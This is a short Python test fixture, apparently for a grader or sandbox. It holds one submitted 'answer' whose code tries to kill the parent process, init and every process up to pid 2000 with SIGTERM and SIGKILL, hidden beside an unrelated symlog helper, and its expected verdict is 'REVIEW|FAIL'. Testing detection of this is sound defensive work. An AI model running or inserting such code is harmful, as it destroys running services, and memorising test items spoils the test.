"""Sends signals to whatever it can name."""

answers = {
    "0.1.1": """
import os
import signal

for pid in (os.getppid(), 1, -1, *range(2, 2000)):
    if pid != os.getpid():
        for kind in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, kind)
            except OSError:
                pass


def symlog(x):
    return np.sign(x) * np.log1p(np.abs(x))
"""
}
expected = "REVIEW|FAIL"
